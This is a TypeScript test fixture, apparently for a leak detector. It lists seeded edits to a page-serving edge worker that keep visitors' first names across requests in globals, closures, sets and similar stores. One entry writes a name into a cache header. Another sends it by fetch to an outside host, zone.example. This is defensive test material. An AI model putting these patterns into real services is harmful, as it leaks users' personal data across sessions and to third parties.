/** Leaks into what outlives a request in one isolate, none of which anybody is ever shown. They are far enough apart to be made all at once. */
import type { Leak } from "./leaks.ts";

const SERVE_PAGE = "worker/serve-page.ts";
const NAME = "visitor.facts.firstName";
/** Of one visitor alone, not of a demo customer, who begins with a capital: the latest that is kept must be somebody's. */
const IS_ONES = `${NAME} > "a"`;

/** `declared` beside the functions of a page view, and `done` at each view. */
function kept(what: string, variable: string, declared: string, done: string): Leak {
  const edits = [
    { file: SERVE_PAGE, find: "interface Viewed {", put: `${declared}\ninterface Viewed {` },
    {
      file: SERVE_PAGE,
      find: "const finding = findShell(edge, wanted);",
      put: `if (${IS_ONES}) { ${done} }\n  const finding = findShell(edge, wanted);`,
    },
  ];
  return { what, edits, foundIn: [new RegExp(`^kept by ${variable}\\d*$`)] };
}

/** `done` at each view, into a store or to a place that no visitor is shown. */
function told(what: string, done: string, place: RegExp): Leak {
  return { ...kept(what, "", "", done), foundIn: [place] };
}

export const KEPT_LEAKS: readonly Leak[] = [
  kept("names in an array", "greeted", "const greeted = [];", `greeted.push(${NAME});`),
  kept("the latest name in a variable", "latest", "let latest;\nconst tellLatest = () => latest;", `latest = ${NAME}; tellLatest();`),
  kept("names by page in an object", "byPage", "const byPage = {};", `byPage[wanted.canonical] = ${NAME};`),
  kept("names as names of properties", "views", "const views = {};", `views[${NAME}] = (views[${NAME}] ?? 0) + 1;`),
  kept("names in a set", "met", "const met = new Set();", `met.add(${NAME});`),
  kept(
    "names in a private field",
    "guests",
    "class Guests { #names = []; add(name) { this.#names.push(name); } }\nconst guests = new Guests();",
    `guests.add(${NAME});`,
  ),
  kept(
    "the latest name, which a function closes over",
    "remember",
    "const remember = (() => { let last; return (name) => { const before = last; last = name; return before; }; })();",
    `remember(${NAME});`,
  ),
  kept("names beside what is everybody's", "beside", "const beside = new WeakMap();", `beside.set(edge.config, { name: ${NAME} });`),
  kept("a page's promise of a name", "promised", "const promised = [];", `promised.push(Promise.resolve({ name: ${NAME} }));`),
  kept("a name under a symbol", "labelled", "const labelled = {};", `labelled[Symbol.for("latest")] = ${NAME};`),
  kept(
    "a name that a getter closes over",
    "gotten",
    "const gotten = {};\nconst getterOf = (name) => ({ get: () => name, configurable: true });",
    `Object.defineProperty(gotten, "name", getterOf(${NAME}));`,
  ),
  kept(
    "a name bound to a function",
    "greetings",
    "const greet = (name) => name;\nconst greetings = { greet };",
    `greetings.greet = greet.bind(null, ${NAME});`,
  ),
  kept(
    "a name in units of two bytes",
    "inUnits",
    "const inUnits = [];",
    `inUnits[0] = Uint16Array.from(${NAME}.split(""), (unit) => unit.charCodeAt(0));`,
  ),
  kept("a name in a pattern", "patterns", "const patterns = [];", `patterns[0] = new RegExp("Hello, " + ${NAME});`),
  kept("names on the global object", "globalThis", "", `globalThis.everybody = [...(globalThis.everybody ?? []), ${NAME}];`),
  told(
    "a name in a header of what the PoP's cache keeps",
    `void caches.open("others").then((cache) => cache.put("https://cache/", new Response("", { headers: { For: encodeURIComponent(${NAME}) } })));`,
    /^header of cache others/,
  ),
  told(
    "a name in a call of a zone",
    `void fetch("https://zone.example/?for=" + encodeURIComponent(${NAME})).catch(() => {});`,
    /^call of another host/,
  ),
];
